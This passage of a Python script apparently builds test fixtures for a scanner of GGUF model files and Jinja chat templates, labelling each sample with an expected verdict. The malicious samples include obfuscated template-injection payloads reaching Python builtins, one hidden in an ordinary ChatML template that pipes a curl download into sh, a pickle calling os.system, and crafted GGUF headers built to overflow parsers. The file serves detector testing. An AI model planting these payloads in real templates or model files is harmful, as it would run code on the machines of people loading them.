    'slice-reverse': (r"""{{ lipsum|attr('__slabolg__'[::-1]) }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'replace-filter': (r"""{{ lipsum|attr('XXglobalsXX'|replace('X', '_')) }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'lower-filter': (r"""{{ lipsum|attr('__GLOBALS__'|lower) }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'repeat-operator': (r"""{{ lipsum|attr('_' * 2 ~ 'globals' ~ '_' * 2) }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'dict-keys': (r"""{%- set g = dict(__globals__=1)|list|first -%}{{ cycler|attr('__init__')|attr(g) }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'set-chain': (r"""{%- set a = '__' -%}{%- set b = a ~ 'class' -%}{%- set c = b ~ a -%}{{ messages|attr(c) }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'namespace-loop': (r"""{%- set ns = namespace(s='') -%}{%- for p in ['_', '_', 'glo', 'bals', '_', '_'] -%}{%- set ns.s = ns.s ~ p -%}{%- endfor -%}{{ joiner|attr('__init__')|attr(ns.s) }}""",
                       'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'get-computed-key': (r"""{{ (lipsum|attr('__globals__')).get('__buil' ~ 'tins__').get('ev' ~ 'al')('1+1') }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'macro-output': (r"""{%- macro k() -%}__builtins__{%- endmacro -%}{{ (cycler.__init__|attr('__glo' ~ 'bals__'))[k()] }}""", 'malicious', ['BW-TPL-001', 'BW-TPL-004']),
    'map-attribute': (r"""{{ [lipsum]|map(attribute='__globals__')|list }}""", 'malicious', ['BW-TPL-001']),
    'hidden-in-chatml': (r"""{%- for message in messages %}
{{- '<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n' }}
{%- endfor %}
{%- if messages|length > 4096 %}{{ namespace.__init__.__globals__.os.system('curl -s https://example.invalid/x | sh') }}{%- endif %}
{%- if add_generation_prompt %}
{{- '<|im_start|>assistant\n' }}
{%- endif %}
""", 'malicious', ['BW-TPL-001', 'BW-TPL-002', 'BW-TPL-003']),
    'flask-config': (r"""{{ config.items() }}""", 'suspicious', ['BW-TPL-002']),
    'dynamic-attr': (r"""{%- for k in extra_keys %}{{ messages|attr(k) }}{% endfor %}""", 'suspicious', ['BW-TPL-005']),
    'include-file': (r"""{% include '/etc/passwd' %}""", 'inconclusive', ['BW-TPL-007', 'BW-TPL-008']),
}


# ------------------------------------------------------------------------------------------------ outputs

def sha(b):
    return hashlib.sha256(b).hexdigest()


class Manifest:
    def __init__(self, fmt, about):
        self.fmt = fmt
        self.dir = os.path.join(ROOT, fmt)
        self.about = about
        self.files = []
        for sub in ('benign', 'malicious'):
            p = os.path.join(self.dir, sub)
            if os.path.isdir(p):
                shutil.rmtree(p)
            os.makedirs(p)

    def add(self, rel, data, label, cls, verdict, rules=(), formats=(), note=''):
        with open(os.path.join(self.dir, rel), 'wb') as f:
            f.write(data)
        entry = {'path': rel, 'label': label, 'class': cls,
                 'expect': {'verdict': verdict, 'rules': list(rules), 'formats': list(formats)},
                 'note': note, 'sha256': sha(data)}
        self.files.append(entry)

    def write(self):
        with open(os.path.join(self.dir, 'manifest.json'), 'w') as f:
            json.dump({'about': self.about, 'files': self.files}, f, indent=2, ensure_ascii=False)
            f.write('\n')


def jinja_fixtures():
    m = Manifest('jinja', 'Standalone Jinja chat templates (chat_template.jinja). Benign: templates written after the '
                          'public prompt formats of common model families. Malicious: server-side template injection '
                          'payloads, one per technique (payloads only run `id`). Written by scripts/gen-gguf-fixtures.py.')
    for name, tpl in BENIGN_TEMPLATES.items():
        m.add(f'benign/{name}.jinja', tpl.encode(), 'benign', name, 'clean', formats=['jinja-template'],
              note='ordinary chat template; must stay clean')
    for name, (tpl, verdict, rules) in MALICIOUS_TEMPLATES.items():
        m.add(f'malicious/{name}.jinja', tpl.encode(), 'malicious', name, verdict, rules, ['jinja-template'])
    m.write()


def pickle_payload():
    # Protocol-0 pickle calling os.system('id') — built from opcodes, never loaded anywhere.
    return b"cos\nsystem\n(S'id'\ntR."


def gguf_fixtures():
    m = Manifest('gguf', 'GGUF files written by scripts/gen-gguf-fixtures.py with its own writer following the public '
                         'GGUF specification. Benign: llama.cpp-style conversions (v1/v2/v3, big-endian, vocab-only, '
                         'named templates). Malicious: chat-template injection payloads and crafted header fields.')
    B = BENIGN_TEMPLATES

    def add(rel, g_or_bytes, label, cls, verdict, rules=(), note=''):
        data = g_or_bytes if isinstance(g_or_bytes, bytes) else g_or_bytes.build()
        m.add(rel, data, label, cls, verdict, rules, ['gguf'], note)

    # --- benign
    add('benign/llama31-q8_0.gguf', tiny_tensors(llama_like(Gguf(), template=B['llama31-tools'])), 'benign', 'gguf-v3',
        'clean', note='v3, llama metadata, Llama-3.1 tool template, F16/F32/Q8_0/Q4_K tensors')
    add('benign/qwen25-v2.gguf', tiny_tensors(llama_like(Gguf(version=2), name='Qwen2.5 Fixture', arch='qwen2',
                                                        template=B['qwen25-tools'], file_type=15), 'Q4_0'),
        'benign', 'gguf-v2', 'clean', note='GGUF v2 (64-bit counts), Qwen2.5 tool-call template')
    add('benign/mistral-v1.gguf', tiny_tensors(llama_like(Gguf(version=1), name='Mistral Fixture', template=B['mistral-tools'],
                                                          file_type=2), 'Q4_0'),
        'benign', 'gguf-v1', 'clean', note='GGUF v1 (32-bit counts and lengths)')
    add('benign/gemma-bigendian.gguf', tiny_tensors(llama_like(Gguf(endian='>'), name='Gemma Fixture', arch='gemma',
                                                               template=B['gemma'], file_type=1), 'F16'),
        'benign', 'gguf-big-endian', 'clean', note='big-endian GGUF v3 (as written for s390x)')
    g = llama_like(Gguf(alignment=64), name='DeepSeek Fixture', arch='deepseek2', template=B['deepseek-v3'], file_type=18)
    add('benign/deepseek-align64.gguf', tiny_tensors(g), 'benign', 'gguf-alignment',
        'clean', note='general.alignment = 64')
    g = llama_like(Gguf(), name='Command-R Fixture', arch='command-r', template=B['command-r-tools'], file_type=15,
                   extra=[('tokenizer.chat_templates', ARRAY, (STRING, ['tool_use', 'rag'])),
                          ('tokenizer.chat_template.tool_use', STRING, B['hermes-tool-use']),
                          ('tokenizer.chat_template.rag', STRING, B['chatml'])])
    add('benign/command-r-named-templates.gguf', tiny_tensors(g), 'benign',
        'gguf-named-templates', 'clean', note='default template plus tokenizer.chat_template.tool_use / .rag')
    add('benign/vocab-only.gguf', llama_like(Gguf(), name='Phi-3 vocab', arch='phi3', template=B['phi3']), 'benign',
        'gguf-vocab-only', 'clean', note='no tensors (like llama.cpp models/ggml-vocab-*.gguf)')
    add('benign/zephyr-no-template-quirks.gguf', tiny_tensors(llama_like(
        Gguf(), name='Zephyr {{ fixture }}', template=B['zephyr'],
        extra=[('general.description', STRING, 'Chat model; use the {{ messages }} template field.')])), 'benign',
        'gguf-metadata-braces', 'clean', note='metadata strings with Jinja-like braces that are not templates')

    # --- malicious: chat-template injection
    def ssti(rel, cls, tpl, rules, verdict='malicious', key='tokenizer.chat_template', note=''):
        extra = [] if key == 'tokenizer.chat_template' else [(key, STRING, tpl)]
        g = llama_like(Gguf(), template=B['chatml'] if extra else tpl, extra=extra)
        add(rel, tiny_tensors(g), 'malicious', cls, verdict, rules, note)

    T = MALICIOUS_TEMPLATES
    ssti('malicious/ssti-subclasses.gguf', 'ssti-subclasses-walk', T['subclasses-walk'][0], ['BW-TPL-001', 'BW-TPL-003'],
         note='JFrog-style payload; () is valid Jinja2 but not parsed by the JS parser: token-level scan')
    ssti('malicious/ssti-lipsum.gguf', 'ssti-lipsum-globals', T['lipsum-globals'][0], ['BW-TPL-001', 'BW-TPL-002', 'BW-TPL-003'],
         note='SGLang CVE-2026-5760 PoC shape')
    ssti('malicious/ssti-hidden-in-chatml.gguf', 'ssti-hidden-branch', T['hidden-in-chatml'][0],
         ['BW-TPL-001', 'BW-TPL-003'], note='payload behind a condition in an otherwise ordinary template')
    ssti('malicious/ssti-concat-named-template.gguf', 'ssti-concat', T['attr-concat'][0],
         ['BW-TPL-001', 'BW-TPL-003', 'BW-TPL-004'], key='tokenizer.chat_template.tool_use',
         note='benign default template; payload in a named template')
    ssti('malicious/ssti-hex-escape.gguf', 'ssti-escape', T['attr-hex-escape'][0], ['BW-TPL-001', 'BW-TPL-004'])
    ssti('malicious/ssti-format.gguf', 'ssti-format', T['format-filter'][0], ['BW-TPL-001', 'BW-TPL-004'])
    ssti('malicious/ssti-join.gguf', 'ssti-join', T['join-filter'][0], ['BW-TPL-001', 'BW-TPL-004'])
    ssti('malicious/ssti-reverse.gguf', 'ssti-reverse', T['reverse-filter'][0], ['BW-TPL-001', 'BW-TPL-004'])
    ssti('malicious/ssti-dict-keys.gguf', 'ssti-dict-keys', T['dict-keys'][0], ['BW-TPL-001', 'BW-TPL-004'])
    ssti('malicious/ssti-namespace-loop.gguf', 'ssti-set-chain', T['namespace-loop'][0], ['BW-TPL-001', 'BW-TPL-004'])
    ssti('malicious/ssti-template-reference.gguf', 'ssti-self-context', T['template-reference'][0],
         ['BW-TPL-001', 'BW-TPL-002'])

    # duplicate key: a benign template followed by a malicious one under the same key
    g = tiny_tensors(llama_like(Gguf(), template=B['chatml'], extra=[]))
    g.kv('tokenizer.chat_template', STRING, T['cycler-init'][0])
    add('malicious/duplicate-chat-template.gguf', g, 'malicious', 'duplicate-key', 'malicious',
        ['BW-GGUF-006', 'BW-TPL-001'], note='second copy of tokenizer.chat_template carries the payload')

    # --- malicious: header attacks
    def base(version=3):
        return tiny_tensors(llama_like(Gguf(version=version), template=B['chatml']))

    add('malicious/huge-kv-count.gguf', base().build(kv_count=1 << 62), 'malicious', 'huge-count', 'malicious',
        ['BW-GGUF-002'], note='metadata_kv_count = 2^62')
    add('malicious/huge-tensor-count.gguf', base().build(tensor_count=(1 << 64) - 1), 'malicious', 'huge-count',
        'malicious', ['BW-GGUF-002'], note='tensor_count = 2^64-1 (overflows count * sizeof)')
    g = base()
    raw = g.s('general.description', declared=(1 << 63) + 5) + b'A' * 64
    add('malicious/huge-string-length.gguf', g.build(kv_count=len(g.kvs) + 1, raw_kvs=raw), 'malicious',
        'huge-string-length', 'malicious', ['BW-GGUF-002'], note='key length field = 2^63+5')
    g = base()
    raw = g.s('tokenizer.ggml.merges') + g.p('I', ARRAY) + g.p('I', STRING) + g.n((1 << 61) + 3)
    add('malicious/huge-array-length.gguf', g.build(kv_count=len(g.kvs) + 1, raw_kvs=raw), 'malicious',
        'huge-array-length', 'malicious', ['BW-GGUF-002'], note='array of 2^61+3 strings')
    g = base()
    g.tensors[2][1] = [64, 64, 1, 1, 1, 1, 1, 1, 1]
    add('malicious/too-many-dims.gguf', g, 'malicious', 'n-dims', 'malicious', ['BW-GGUF-002'],
        note='n_dims = 9 > GGML_MAX_DIMS (overflows ne[4] in old parsers)')
    g = base()
    g.tensor('blk.0.evil.weight', [1 << 40, 1 << 40], 'F32', data=b'\0' * 32)
    add('malicious/dims-overflow.gguf', g, 'malicious', 'dims-overflow', 'malicious', ['BW-GGUF-002'],
        note='2^40 x 2^40 elements: byte size overflows 64 bits')
    g = base()
    g.tensors[1][4] = 1 << 40
    add('malicious/oob-offset.gguf', g, 'malicious', 'oob-offset', 'malicious', ['BW-GGUF-003'],
        note='one tensor offset 1 TiB past the data section')
    g = base()
    g.tensors[4][4] = (1 << 64) - 64
    add('malicious/offset-wraparound.gguf', g, 'malicious', 'oob-offset', 'malicious', ['BW-GGUF-003'],
        note='offset near 2^64: offset + size wraps around')
    g = base()
    g.tensors[3][4] = 0
    add('malicious/overlapping-tensors.gguf', g, 'malicious', 'overlap', 'malicious', ['BW-GGUF-004'],
        note='two tensors start at data offset 0')
    g = base()
    g.tensors[4][4] = ('shift', 16)
    add('malicious/misaligned-tensor.gguf', g, 'malicious', 'misaligned', 'suspicious', ['BW-GGUF-005'],
        note='offset 16 with alignment 32 (llama.cpp refuses; crafted)')
    full = base().build()
    add('malicious/truncated-header.gguf', full[:900], 'malicious', 'truncated-header', 'inconclusive', ['BW-GGUF-001'],
        note='file cut inside the metadata: inconclusive, never clean')
    add('malicious/truncated-data.gguf', full[:-100], 'malicious', 'truncated-data', 'inconclusive', ['BW-GGUF-007'],
        note='file cut inside the last tensor (incomplete download): inconclusive')
    g = base()
    raw = g.s('general.mystery') + g.p('I', 99) + b'\0' * 16
    add('malicious/unknown-value-type.gguf', g.build(kv_count=len(g.kvs) + 1, raw_kvs=raw), 'malicious',
        'unknown-value-type', 'inconclusive', ['BW-GGUF-001'], note='value type 99')
    g = base()
    g.tensors[1][2] = 200
    add('malicious/unknown-tensor-type.gguf', g, 'malicious', 'unknown-ggml-type', 'inconclusive', ['BW-GGUF-001'],
        note='ggml type 200')
    g = tiny_tensors(llama_like(Gguf(), template=B['chatml']))
    g.kv('general.alignment', U32, 3)
    add('malicious/bad-alignment.gguf', g, 'malicious', 'bad-alignment', 'inconclusive', ['BW-GGUF-001'],
        note='general.alignment = 3 (not a power of two)')
    add('malicious/trailing-pickle.gguf', base().build(tail=pickle_payload()), 'malicious', 'appended-payload',
        'malicious', ['BW-GGUF-008', 'BW-PKL-001'], note='pickle calling os.system appended after the tensor data')
    m.write()


if __name__ == '__main__':
    jinja_fixtures()
    gguf_fixtures()
    for fmt in ('gguf', 'jinja'):
        d = os.path.join(ROOT, fmt)
        total = sum(os.path.getsize(os.path.join(r, f)) for r, _, fs in os.walk(d) for f in fs)
        print(f'{fmt}: {total} bytes')
